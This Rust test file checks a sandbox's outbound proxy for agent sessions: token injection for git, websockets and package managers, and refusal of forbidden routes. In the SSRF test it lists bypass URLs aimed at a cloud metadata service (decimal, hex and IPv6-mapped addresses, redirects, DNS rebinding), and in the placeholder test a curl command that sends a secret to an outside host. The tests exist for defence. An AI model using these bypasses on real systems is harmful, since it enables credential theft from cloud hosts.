//! The way out of a sandbox: what real programs do with it, and what a hostile one does not get.

use anyhow::{Context, ensure};
use serde_json::{Value, json};
use system_tests::upstream::{Arrived, Site};
use system_tests::{Client, House, Secret};

use crate::{Scenarios, Shared};

pub(crate) fn add_to(scenarios: &mut Scenarios<'_>) {
    scenarios.add("git_takes_the_way_out_with_a_token", git);
    scenarios.add("large_bodies_and_websockets_take_the_way_out", large_bodies_and_websockets);
    scenarios.add("packages_and_nothing_else_take_the_way_out", packages);
    scenarios.add("cargo_and_go_take_the_way_out_and_trust_it", cargo_and_go);
    scenarios.add("the_way_out_never_leads_inside", no_way_inside);
    scenarios.add("a_placeholder_is_worth_something_on_its_own_way_out_only", placeholders);
}

/// A name that only the stack's vault-proxy knows.
pub(crate) const SITE: &str = "site.test";
/// One without a provider's shape, so that its placeholder has the platform's own.
const OTHER_TOKEN: &str = "real-value-of-the-other-session-11";
const TOKEN: &str = "glpat-realTokenOfTheRepository42";

/// A site with a repository, and a team that may reach it.
pub(crate) struct Ground {
    pub(crate) site: Site,
    pub(crate) client: Client,
    /// `site.test:<port>`.
    pub(crate) host: String,
    repositories: tempfile::TempDir,
}

impl Ground {
    pub(crate) async fn prepare(house: &House, redirects_to: &str) -> anyhow::Result<Self> {
        let repositories = tempfile::tempdir()?;
        let folder = repositories.path();
        let site = Site::start(house.authority(), &[SITE], folder, TOKEN, redirects_to).await?;
        house.resolve(&[(SITE, "127.0.0.1")])?;
        let host = format!("{SITE}:{}", site.upstream.port());
        let client = house.team_allowing(std::slice::from_ref(&host)).await?;
        Ok(Self { site, client, host, repositories })
    }

    /// Opens a session with one secret for the site, in a variable of this name.
    pub(crate) async fn session(&self, name: &str) -> anyhow::Result<String> {
        self.session_with(name, TOKEN).await
    }

    async fn session_with(&self, name: &str, value: &str) -> anyhow::Result<String> {
        let hosts = [self.host.clone()];
        let secret = Secret { name, value, hosts: &hosts, also_in: &[] };
        let vault = self.client.create_vault(&[secret]).await?;
        self.client.open_session_with(&self.client.create_agent().await?, &[&vault]).await
    }
}

async fn git(house: Shared) -> anyhow::Result<()> {
    let house = house.lock().await;
    let ground = Ground::prepare(&house, "/").await?;
    let bare = ground.repositories.path().join("project.git");
    let made = std::process::Command::new("git")
        .args(["init", "--quiet", "--bare", "--initial-branch=main"])
        .arg(&bare)
        .status()?;
    ensure!(made.success(), "no repository");
    let session = ground.session("GITLAB_TOKEN").await?;
    let Ground { client, host, .. } = &ground;
    let printed = client
        .run(
            &session,
            &format!(
                "git clone https://agent:$GITLAB_TOKEN@{host}/git/project.git 2>&1 && cd project && echo hello > a && git add a && \
                 git -c user.name=a -c user.email=a@example.com commit -qm first && git push origin HEAD:main 2>&1; echo $GITLAB_TOKEN"
            ),
        )
        .await?;
    let log =
        std::process::Command::new("git").arg("-C").arg(&bare).args(["log", "main"]).output()?;
    let arrived: Vec<_> = ground.site.arrived().iter().map(Arrived::text).collect();
    let is_pushed = String::from_utf8_lossy(&log.stdout).contains("first");
    ensure!(is_pushed, "{printed}\narrived: {arrived:#?}");
    ensure!(printed.contains("glpat-") && !printed.contains(TOKEN), "{printed}");
    Ok(())
}

async fn large_bodies_and_websockets(house: Shared) -> anyhow::Result<()> {
    let house = house.lock().await;
    let ground = Ground::prepare(&house, "/").await?;
    let session = ground.session("SITE_TOKEN").await?;
    let Ground { client, host, .. } = &ground;
    let bytes = 64 << 20;
    let upload = format!("head -c {bytes} /dev/zero | curl -sS -T - https://{host}/ 2>&1");
    let printed = client.run(&session, &upload).await?;
    ensure!(printed.trim() == bytes.to_string(), "{printed}");
    let download = format!("curl -sS https://{host}/bytes/{bytes} 2>&1 | wc -c");
    let printed = client.run(&session, &download).await?;
    ensure!(printed.trim() == bytes.to_string(), "{printed}");
    // Without any knowledge of proxies: the name has an address, and the address has a way.
    let (name, port) = host.split_once(':').context("no port")?;
    let socket = format!(
        "python3 -c 'import os, socket, ssl; s = ssl.create_default_context().wrap_socket(socket.create_connection((\"{name}\", {port})), server_hostname=\"{name}\"); s.sendall(b\"GET /socket HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nAuthorization: Bearer \" + os.environb[b\"SITE_TOKEN\"] + b\"\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n\"); print(s.recv(4096).split(b\"\\r\\n\")[0].decode()); s.sendall(b\"\\x81\\x0ato and fro\"); print(s.recv(100)[2:].decode())' 2>&1"
    );
    let printed = client.run(&session, &socket).await?;
    ensure!(printed.contains("101") && printed.contains("to and fro"), "{printed}");
    let of_socket = ground.site.arrived().into_iter().find(|it| it.target == "/socket");
    let head = of_socket.context("no upgrade arrived")?.text();
    ensure!(head.contains(TOKEN), "the token was not put into the upgrade: {head}");
    Ok(())
}

async fn packages(house: Shared) -> anyhow::Result<()> {
    let client = house.lock().await.team().await?;
    let networking =
        json!({ "type": "limited", "allowed_hosts": [], "allow_package_managers": true });
    let body =
        json!({ "name": "packages", "config": { "type": "cloud", "networking": networking } });
    let environment = client.post("/v1/environments", &body).await?;
    let agent = client.create_agent().await?;
    let open = json!({ "agent_id": agent, "environment_id": environment["id"] });
    let session = client.post("/api/sessions", &open).await?;
    let session = session["id"].as_str().context("no id")?.to_owned();
    let printed = client
        .run(
            &session,
            "npm install --no-audit --no-fund is-number@7.0.0 2>&1 && node -p 'require(\"is-number\")(7)'; \
             python3 -m pip download --quiet --no-deps --no-binary :none: six==1.17.0 2>&1; ls; curl -sS https://example.com/ 2>&1; \
             curl -sS --noproxy '*' https://example.com/ 2>&1",
        )
        .await?;
    ensure!(printed.contains("\ntrue\n"), "npm: {printed}");
    ensure!(printed.contains("six-1.17.0"), "pip: {printed}");
    ensure!(printed.contains("allowed_hosts"), "the denial names no rule: {printed}");
    let egress = client.get(&format!("/v1/sessions/{session}/egress?limit=100")).await?;
    let decisions = egress["data"].as_array().context("no list")?;
    let about =
        |host: &str| decisions.iter().find(|it| it["host"] == host).map(|it| &it["verdict"]);
    ensure!(about("registry.npmjs.org").is_some_and(|it| it == "allowed"), "{decisions:?}");
    ensure!(about("example.com").is_some_and(|it| it == "denied"), "{decisions:?}");
    Ok(())
}

/// What each tool asks first of a registry, which is as far as this site goes: by then it has trusted the way out and taken it.
const ASKED_FIRST: [(&str, &str, &str); 2] = [
    (
        "cargo",
        "mkdir -p /tmp/crate/src && cd /tmp/crate && : > src/lib.rs && printf '[package]\\nname = \"a\"\\nversion = \"1.0.0\"\\n[dependencies]\\ntiny = { version = \"1\", registry = \"site\" }\\n' > Cargo.toml && \
         CARGO_HOME=/tmp/cargo CARGO_REGISTRIES_SITE_INDEX=sparse+https://HOST/crates/ cargo fetch",
        "/crates/config.json",
    ),
    (
        "go",
        "GOPROXY=https://HOST/modules GONOSUMDB='*' GOTOOLCHAIN=local GOCACHE=/tmp/go GOMODCACHE=/tmp/modules go mod download example.test/tiny@v1.0.0",
        "/modules/example.test/tiny/@v/v1.0.0.info",
    ),
];

async fn cargo_and_go(house: Shared) -> anyhow::Result<()> {
    let house = house.lock().await;
    let ground = Ground::prepare(&house, "/").await?;
    let session = ground.session("SITE_TOKEN").await?;
    let Ground { client, host, site, .. } = &ground;
    for (tool, command, first) in ASKED_FIRST {
        let command = command.replace("HOST", host);
        let path = "PATH=$PATH:/usr/local/go/bin:/usr/local/cargo/bin";
        let told = format!("export {path}; command -v {tool} || echo absent; {command} 2>&1");
        let printed = client.run(&session, &told).await?;
        if printed.starts_with("absent") {
            eprintln!("{tool} is not where a sandbox sees it on this machine: not tried");
            continue;
        }
        let has_asked = site.arrived().iter().any(|it| it.target == first);
        ensure!(has_asked, "{tool} did not ask for {first}: {printed}");
    }
    Ok(())
}

async fn no_way_inside(house: Shared) -> anyhow::Result<()> {
    let house = house.lock().await;
    let ground = Ground::prepare(&house, "http://169.254.169.254/latest/meta-data/").await?;
    let session = ground.session("SITE_TOKEN").await?;
    let Ground { client, host, .. } = &ground;
    let port = house.stack.url().rsplit(':').next().unwrap_or_default().to_owned();
    let fetch = |url: &str| format!("curl -sS -m 20 -L -k '{url}' 2>&1; echo");
    let urls = [
        "http://127.0.0.1.nip.test/".to_owned(),
        "http://metadata.test/".to_owned(),
        format!("http://169.254.169.254/{port}"),
        format!("http://inside.test:{port}/healthz"),
        "http://[::ffff:169.254.169.254]/".to_owned(),
        "http://2852039166/".to_owned(),
        "http://0xa9fea9fe/".to_owned(),
        format!("https://{host}/away"),
    ];
    house.resolve(&[
        ("site.test", "127.0.0.1"),
        ("127.0.0.1.nip.test", "127.0.0.1"),
        ("inside.test", "127.0.0.1"),
        ("metadata.test", "169.254.169.254"),
    ])?;
    for url in &urls {
        let printed = client.run(&session, &fetch(url)).await?;
        ensure!(!printed.contains("ok") && !printed.contains("meta-data"), "{url}: {printed}");
        ensure!(printed.trim().len() > 10, "{url} is refused without a word: {printed:?}");
    }
    // A name that was fine turns to the inside: it is refused, or goes on to where it was checked to lead.
    let rebound = format!("curl -sS -m 20 https://{host}/bytes/2 2>&1; echo");
    ensure!(client.run(&session, &rebound).await?.trim() == "xx", "the site cannot be reached");
    house.resolve(&[(SITE, "169.254.169.254")])?;
    let printed = client.run(&session, &rebound).await?;
    let is_refused = printed.contains("metadata service");
    ensure!(is_refused || printed.trim() == "xx", "a name was followed inside: {printed}");
    Ok(())
}

async fn placeholders(house: Shared) -> anyhow::Result<()> {
    let house = house.lock().await;
    let ground = Ground::prepare(&house, "/").await?;
    let Ground { client, host, site, .. } = &ground;
    let one = ground.session("SITE_TOKEN").await?;
    let placeholder = client.run(&one, "printenv SITE_TOKEN").await?.trim().to_owned();
    ensure!(placeholder.len() > 16 && !placeholder.contains(TOKEN), "{placeholder}");
    // In another session it stands for nothing.
    let other = ground.session_with("OTHER_TOKEN", OTHER_TOKEN).await?;
    let ask = |text: &str| {
        format!("curl -sS -H 'Authorization: Bearer {text}' https://{host}/echo 2>&1; echo")
    };
    client.run(&other, &ask(&placeholder)).await?;
    let arrived: Vec<String> = site.arrived().iter().map(Arrived::text).collect();
    ensure!(!arrived.iter().any(|head| head.contains(TOKEN)), "{arrived:?}");
    // Where there is room for a mark in it, it is known there as well, for what it is.
    let marked = client.run(&other, "printenv OTHER_TOKEN").await?.trim().to_owned();
    let printed = client.run(&one, &ask(&marked)).await?;
    ensure!(printed.contains("another session"), "{printed}");
    let log = client.log(&one).await?;
    let alarm = log.iter().find(|event| event["type"] == "session.alarm").cloned();
    ensure!(alarm.as_ref().is_some_and(|it| it["host"] == SITE), "{alarm:?}");
    let egress = client.get(&format!("/v1/sessions/{one}/egress")).await?;
    let denied = |it: &Value| it["code"] == "foreign_placeholder" && it["verdict"] == "denied";
    let is_listed = egress["data"].as_array().is_some_and(|it| it.iter().any(denied));
    ensure!(is_listed, "{egress}");
    // In its own it is replaced, and the answer does not give the value away, now or later.
    let printed = client.run(&one, &ask(&placeholder)).await?;
    ensure!(site.arrived().iter().any(|it| it.text().contains(TOKEN)), "{printed}");
    ensure!(printed.contains(&placeholder) && !printed.contains(TOKEN), "{printed}");
    let kept = client.run(&one, &format!("curl -sS https://{host}/kept 2>&1")).await?;
    ensure!(kept.contains("/echo") && !kept.contains(TOKEN), "{kept}");
    // At another host it is an alarm, and nothing is sent.
    let printed =
        client.run(&one, "curl -sS -H \"X-A: $SITE_TOKEN\" http://example.com/ 2>&1; echo").await?;
    ensure!(printed.contains("SITE_TOKEN"), "{printed}");
    let log = client.log(&one).await?;
    let about = |host: &str| {
        let is_it = |event: &&Value| event["type"] == "session.alarm" && event["host"] == host;
        log.iter().find(is_it).map(|event| &event["kind"])
    };
    ensure!(about("example.com").is_some_and(|it| it == "placeholder_misused"), "{log:?}");
    ensure!(!Value::from(log).to_string().contains(TOKEN), "the log holds the value");
    Ok(())
}
